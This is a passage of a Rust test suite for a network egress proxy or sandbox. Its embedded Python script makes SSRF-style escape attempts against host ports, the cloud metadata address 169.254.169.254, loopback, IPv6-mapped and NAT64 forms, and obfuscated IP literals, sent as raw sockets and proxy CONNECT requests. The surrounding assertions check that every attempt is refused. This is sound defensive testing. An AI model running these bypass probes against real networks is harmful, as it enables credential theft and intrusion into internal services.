    assert_eq!(bed.trap_hits(), vec![], "something reached a trap");
    let leaked = leaks(&bed);
    assert!(
        leaked.is_empty(),
        "leak requests reached a server: {leaked:#?}"
    );
    assert!(
        bed.dns_hits().iter().all(|h| !h.name.contains("evil")),
        "{:?}",
        bed.dns_hits()
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("ATTEMPT after-ok -> 200"), "{stdout}");
    // Cap refusals are recorded (HTTP connections and DNS-over-TCP connections).
    assert!(
        denies.iter().any(|e| e["reason"]
            .as_str()
            .is_some_and(|r| r.contains("connections") || r.contains("cap"))),
        "no cap refusal recorded: {reasons:#?}"
    );
    assert!(
        denies.iter().any(|e| e["path"] == "/leak-after"),
        "no event for /leak-after"
    );
    // 560 held + 4 attempts at the cap of 512: at least 52 refusals by the cap, less any
    // attempt that found a slot a held connection had just freed and was refused on its
    // merits instead (recorded all the same: its path, or its SNI for the TLS one).
    let capped = denies
        .iter()
        .filter(|e| e["reason"] == "too many connections from this client")
        .count();
    let refused_otherwise = denies
        .iter()
        .filter(|e| {
            e["path"]
                .as_str()
                .is_some_and(|p| p.starts_with("/leak-cap"))
                || (e["kind"] == "tls" && e["host"] == "evil.test")
        })
        .count();
    assert!(
        capped + refused_otherwise >= 52,
        "only {capped} cap refusals and {refused_otherwise} other refusals of the attempts \
         at the cap recorded: {reasons:#?}"
    );
    let dns_denies = denies.iter().filter(|e| e["source"] == "dns").count();
    assert!(
        dns_denies >= 14,
        "only {dns_denies} DNS denials: {reasons:#?}"
    );
}

// ------------------------------------------------------------------ 5. beside

const BESIDE: &str = r#"
TRAP = sys.argv[1]
def tcp(label, addr, family=socket.AF_INET, data=b"GET /leak-beside HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"):
    out = raw(addr, data, family=family)
    show(label, out)
def udp(label, addr, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    try:
        s.sendto(b"ping-beside", addr)
        print("ATTEMPT", label, "-> SENT", flush=True)
    except OSError as e:
        print("ATTEMPT", label, "-> REFUSED", e, flush=True)
    finally:
        s.close()
for port in (22, 80, 443, 3443, 3080, 3053, 8080, 9090, 10250, 18080, 2375):
    tcp("hostside-tcp-%d" % port, (PH, port))
for port in (123, 5353, 68, 18080, 3128):
    udp("hostside-udp-%d" % port, (PH, port))
tcp("hostinet-18080", ("198.51.100.1", 18080))
tcp("hostinet-80", ("198.51.100.1", 80), data=b"GET /leak-b1 HTTP/1.1\r\nHost: hostinet.allowed.test\r\nConnection: close\r\n\r\n")
tcp("hostinet-18080-named", ("198.51.100.1", 18080), data=b"GET /leak-b2 HTTP/1.1\r\nHost: hostinet.allowed.test:18080\r\nConnection: close\r\n\r\n")
tcp("metadata-80", ("169.254.169.254", 80), data=b"GET /leak-b3 HTTP/1.1\r\nHost: metadata.allowed.test\r\nConnection: close\r\n\r\n")
tcp("metadata-80-allowed", ("169.254.169.254", 80))
for v6 in ("fe80::1%eth0", "::1", "::ffff:" + PH, "2001:db8:113::10"):
    try:
        tcp("v6-%s" % v6, (v6, 3128, 0, 0), family=socket.AF_INET6)
    except Exception as e:
        print("ATTEMPT v6", v6, "->", e)
C = "Connection: close\r\n\r\n"
for name in ("hostinet", "hostside", "pool", "loop", "loop6", "mapped6", "nat64", "sixto4", "ll6", "metadata", "private", "teredo"):
    n = "%s.allowed.test" % name
    show("explicit-" + name, raw(E, ("GET http://%s:18080/leak-b-%s HTTP/1.1\r\n" % (n, name) + C).encode()))
    show("connect-" + name, raw(E, ("CONNECT %s:18080 HTTP/1.1\r\n\r\n" % n).encode()))
    show("connect443-" + name, raw(E, [("CONNECT %s:443 HTTP/1.1\r\n\r\n" % n).encode(), client_hello([n.encode()])]))
for lit in ("198.51.100.1", "127.0.0.1", "[::1]", "169.254.169.254", "10.249.0.1", "[::ffff:127.0.0.1]", "0.0.0.0", "[::]", "2130706433", "0x7f.1"):
    show("connect-lit-" + lit, raw(E, ("CONNECT %s:18080 HTTP/1.1\r\n\r\n" % lit).encode()))
    show("explicit-lit-" + lit, raw(E, ("GET http://%s:18080/leak-lit HTTP/1.1\r\n" % lit + C).encode()))
"#;

#[test]
fn what_sits_beside_stays_out_of_reach() {
    require_privilege!();
    let bed = NetBed::new().expect("net bed");
    let hits = Arc::new(AtomicUsize::new(0));
    // A host service on every address of the host namespace, port 18080 (v4 and v6).
    for addr in [
        SocketAddr::new(IpAddr::V4(Ipv4Addr::UNSPECIFIED), 18080),
        SocketAddr::new(IpAddr::V6(Ipv6Addr::UNSPECIFIED), 18080),
    ] {
        let hits = Arc::clone(&hits);
        let listener = bed.host().run(async move {
            let socket = if addr.is_ipv4() {
                tokio::net::TcpSocket::new_v4()
            } else {
                tokio::net::TcpSocket::new_v6()
            }
            .expect("socket");
            socket.set_reuseaddr(true).expect("reuse");
            if addr.is_ipv6() {
                // v6only so both binds can coexist.
                socket2_v6only(&socket);
            }
            socket.bind(addr).expect("bind host service");
            socket.listen(64).expect("listen")
        });
        bed.host().spawn(async move {
            while let Ok((_s, _)) = listener.accept().await {
                hits.fetch_add(1, Ordering::SeqCst);
            }
        });
    }
    let v4 = |a: [u8; 4]| vec![IpAddr::V4(Ipv4Addr::from(a))];
    let v6 = |s: &str| vec![IpAddr::V6(s.parse().expect("v6"))];
    bed.set_name("hostinet.allowed.test", v4([198, 51, 100, 1]));
    bed.set_name("hostside.allowed.test", v4([10, 249, 0, 1]));
    bed.set_name("pool.allowed.test", v4([10, 249, 0, 6]));
    bed.set_name("loop.allowed.test", v4([127, 0, 0, 1]));
    bed.set_name("loop6.allowed.test", v6("::1"));
    bed.set_name("mapped6.allowed.test", v6("::ffff:198.51.100.1"));
    bed.set_name("nat64.allowed.test", v6("64:ff9b::c633:6401"));
    bed.set_name("sixto4.allowed.test", v6("2002:c633:6401::1"));
    bed.set_name("ll6.allowed.test", v6("fe80::1"));
    bed.set_name("teredo.allowed.test", v6("2001:0:c633:6401::1"));
    let world = World::in_netns(
        bed.host_ns(),
        "",
        &allowed_test_config(
            "        - host: \"*.allowed.test\"\n          ports: [18080, 80, 443]\n",
            "",
        ),
    );
    let (output, events) = run_attack(
        &world,
        "beside",
        py_step("beside", BESIDE, &TRAP_IPS[0].to_string()),
    );
    let denies = deny_events(&events);
    for e in &denies {
        println!("DENY {e}");
    }
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "the host service on :18080 was reached"
    );
    assert_eq!(bed.trap_hits(), vec![], "something reached a trap");
    let leaked = leaks(&bed);
    assert!(
        leaked.is_empty(),
        "leak requests reached a server: {leaked:#?}"
    );
    let allows: Vec<_> = events
        .iter()
        .filter(|e| e["verdict"] == "allow" && e["source"] == "proxy")
        .collect();
    assert!(allows.is_empty(), "something was allowed: {allows:#?}");
    // Every named internal target was refused with an event naming it.
    for name in [
        "hostinet", "hostside", "pool", "loop", "loop6", "mapped6", "nat64", "sixto4", "ll6",
        "metadata", "private", "teredo",
    ] {
        let host = format!("{name}.allowed.test");
        let n = denies.iter().filter(|e| e["host"] == host.as_str()).count();
        assert!(n >= 3, "{host}: {n} deny events for 3 attempts");
    }
}

/// Sets IPV6_V6ONLY on a tokio socket (through its raw descriptor).
fn socket2_v6only(socket: &tokio::net::TcpSocket) {
    use std::os::fd::AsRawFd;
    let one: libc::c_int = 1;
    // SAFETY: setsockopt on a valid descriptor with a pointer to a live c_int.
    let rc = unsafe {
        libc::setsockopt(
            socket.as_raw_fd(),
            libc::IPPROTO_IPV6,
            libc::IPV6_V6ONLY,
            (&one as *const libc::c_int).cast(),
            std::mem::size_of::<libc::c_int>() as libc::socklen_t,
        )
    };
    assert_eq!(rc, 0, "IPV6_V6ONLY");
}

// ------------------------------------------------------------------ 6. in flight at the end
